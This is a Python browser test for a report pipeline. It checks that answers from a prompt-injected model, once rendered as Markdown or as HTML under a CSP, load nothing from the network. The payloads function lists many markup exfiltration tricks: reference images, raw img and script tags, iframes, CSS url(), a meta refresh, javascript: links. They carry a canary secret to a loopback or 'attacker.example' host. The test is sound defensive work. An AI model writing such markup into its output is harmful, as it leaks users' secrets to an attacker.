"""A report that cannot fetch: the Markdown report and the HTML page of a hostile filing's run,
opened in headless Chromium with the network watched, make no request but the page's own.

The run's model answers are what a model obeying a prompt-injected filing would write: each
field carries markup that loads something when rendered (a reference-style image with its
definition elsewhere in the document, inline and nested images, autolinks, bare and
protocol-relative URLs, raw `<img>`, `<script>`, `<iframe>`, `<object>`, `<link>`, `<svg
image>`, `srcset`, CSS `url()` and `@import`, a meta refresh, `javascript:` links, an HTML
block). Every URL points at a loopback server that serves the pages and logs each request, and
holds a canary where an exfiltration would put a secret.

- The Markdown report (`render.markdown`) is rendered by markdown-it as a Markdown viewer would
  show it (raw HTML on, linkify, GFM tables) in a page without any Content-Security-Policy, so
  that the escaping alone stands between the answers and the browser.
- The HTML page (`html.render_page`) is served as the pipeline writes it, under its own CSP,
  and again with the CSP bypassed (`Page.setBypassCSP`): its escaping alone must hold too.

Chromium's DevTools network events list every request a page starts (those a CSP blocks too);
the loopback server's log confirms none reached it. A control page holding the same answers
unescaped shows that both watches see the fetches. The old `escape` let `![c][1]` and its
definition through, and markdown-it made them an `<img src="//…">`: this test failed on it.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from pipeline.reporting.html import render_page
from pipeline.reporting.page_data import PageInput
from pipeline.reporting.render import DocumentRow, ReportInput, as_json, markdown
from tests.browser import Loaded, chromium, chromium_or_skip, load_url

CANARY = "sk-live-canary-7f3a"
VIEWER = MarkdownIt("gfm-like")
"""markdown-it as a Markdown viewer renders: raw HTML on, linkify, GFM tables."""


def payloads(host: str) -> dict[str, str]:
    """What a prompt-injected model writes into its answers, by what it tries; every URL on `host`."""
    leak = f"//{host}/leak"
    return {
        "reference image": f"![chart][1] and ![logo][img]\n\n[img]: {leak}/reference-2.png?k={CANARY}",
        "inline image": f"![a]({leak}/inline.png?k={CANARY}) ![a [b]]({leak}/nested.png) ![x](<{leak}/angle.png>)",
        "escaped-bracket tricks": f"\\![x]({leak}/backslash.png) \\\\![y][1] &#33;[z][1]",
        "autolink": f"<http:{leak}/autolink?k={CANARY}> <https:{leak}/autolink-s>",
        "bare URLs": f"http:{leak}/bare?k={CANARY} {leak}/relative www.attacker.example/p?k={CANARY}",
        "raw img": f'<img src="{leak}/raw.png?k={CANARY}"> <img src={leak}/raw-bare.png>',
        "script": f"<script src=\"{leak}/script.js\"></script><script>fetch('{leak}/inline-script')</script>",
        "javascript links": f"[click](javascript:fetch('{leak}/js')) <a href=\"javascript:fetch('{leak}/js2')\">x</a>",
        "CSS": f'<div style="background:url({leak}/style.png)">x</div>'
        f"<style>@import url({leak}/import.css); body{{background:url({leak}/body.png)}}</style>",
        "srcset": f'<img srcset="{leak}/srcset.png 1x"><picture><source srcset="{leak}/picture.png"></picture>',
        "meta refresh": f'<meta http-equiv="refresh" content="0;url={leak}/refresh?k={CANARY}">',
        "frames": f'<iframe src="{leak}/frame"></iframe><object data="{leak}/object"></object>'
        f'<embed src="{leak}/embed"><video poster="{leak}/poster.png"></video>',
        "link elements": f'<link rel="stylesheet" href="{leak}/link.css"><link rel="prefetch" href="{leak}/prefetch">',
        "svg": f'<svg><image href="{leak}/svg.png"/></svg><input type="image" src="{leak}/input.png">',
        "base": f'<base href="{leak}/base/"><form action="{leak}/form"><button>go</button></form>',
        "entities": f"&lt;img src={leak}/entity.png&gt; &#x3C;img src={leak}/hex.png&#x3E;",
    }


def hostile_answer(host: str) -> str:
    """The synthesis answer: the definitions at line starts, an HTML block, then every payload."""
    leak = f"//{host}/leak"
    blocks = [
        f"[1]: {leak}/reference.png?k={CANARY}",
        f"<img src={leak}/html-block.png>",
        "Revenue grew at every company.",
        *payloads(host).values(),
    ]
    return "\n\n".join(blocks)


def report_input(host: str) -> ReportInput:
    p = payloads(host)
    documents = [
        DocumentRow(
            f"filings/{p['raw img']}.txt",
            "extracted",
            company=f"{p['reference image']} Corp",
            fiscal_year=2025,
            revenue_usd=1.2e9,
            risk_titles=[p["inline image"], p["autolink"], p["CSS"]],
            quotes_total=2,
            quotes_grounded=2,
            injection_excerpt=p["srcset"],
        ),
        DocumentRow(f"filings/{p['svg']}.txt", "failed", error=p["script"]),
    ]
    totals = {
        "documents": {"extracted": 1, "failed": 1},
        "llm_calls": 4,
        "tokens": 900,
        "grounding": {"quotes_total": 2, "quotes_grounded": 2},
    }
    return ReportInput(
        "r" * 32, p["meta refresh"], p["frames"], "sim-1", True, hostile_answer(host), 1, documents, totals
    )


def page_input(report: ReportInput) -> PageInput:
    """The HTML page's input: the report's data as stored (reports.json)."""
    created = datetime(2026, 1, 1, tzinfo=UTC)
    return PageInput(as_json(report), "completed", created, created)


def viewer_page(markdown_text: str) -> str:
    """The Markdown as a viewer shows it: rendered into a page with no CSP of its own."""
    return f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>report</title></head><body>{VIEWER.render(markdown_text)}</body></html>"


class _Logged(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def site(tmp_path: Path) -> Iterator[tuple[str, list[str]]]:
    """A loopback HTTP server serving `tmp_path`; its address and every path asked of it."""
    asked: list[str] = []

    class Handler(_Logged):
        def do_GET(self) -> None:
            asked.append(self.path)
            super().do_GET()

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Handler, directory=str(tmp_path)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


def _fetched_nothing(shown: Loaded, url: str) -> None:
    assert shown.requests == [url], f"requests besides the page: {shown.requests[1:]}"
    probe = shown.probe
    assert probe["scripts"] == 0 and probe["images"] == 0 and not probe["pwned"], probe
    assert probe["links"] == 0, "no element with href, src, srcset or action"


@pytest.mark.slow  # starts a browser
def test_the_markdown_report_and_the_html_page_of_a_hostile_run_fetch_nothing(
    site: tuple[str, list[str]], tmp_path: Path
) -> None:
    binary = chromium_or_skip()
    host, asked = site
    report = report_input(host)
    (tmp_path / "report.html").write_text(viewer_page(markdown(report)), encoding="utf-8")
    (tmp_path / "page.html").write_text(render_page(page_input(report)), encoding="utf-8")
    # (the control leaves out the meta refresh: navigating away, it would end the page's probe)
    control = "\n\n".join(
        [f"[1]: //{host}/leak/reference.png?k={CANARY}", "![c][1]", payloads(host)["raw img"]]
    )
    (tmp_path / "control.html").write_text(viewer_page(control), encoding="utf-8")

    url = f"http://{host}/"
    with chromium(binary) as browser:
        controlled = load_url(browser, url + "control.html")
        asked_by_control = [path for path in asked if path.startswith("/leak/")]
        viewed = load_url(browser, url + "report.html")
        page = load_url(browser, url + "page.html")
        unguarded = load_url(browser, url + "page.html", bypass_csp=True)

    # The control: unescaped, the answers fetch, and both watches see it.
    assert any("/leak/reference.png?k=" + CANARY in r for r in controlled.requests), controlled.requests
    assert (
        "/leak/reference.png?k=" + CANARY in asked_by_control
        and "/leak/raw.png?k=" + CANARY in asked_by_control
    )

    _fetched_nothing(viewed, url + "report.html")
    assert "![chart][1]" in viewed.probe["text"] and "<script" in viewed.probe["text"], (
        "the markup shows as text"
    )
    _fetched_nothing(page, url + "page.html")
    assert page.probe["csp"].startswith("default-src 'none'") and "img-src" not in page.probe["csp"]
    assert not [m for m in page.messages if "Content Security Policy" in m], "nothing even tried to load"
    _fetched_nothing(unguarded, url + "page.html")
    assert [path for path in asked if path.startswith("/leak/")] == asked_by_control, "only the control's"
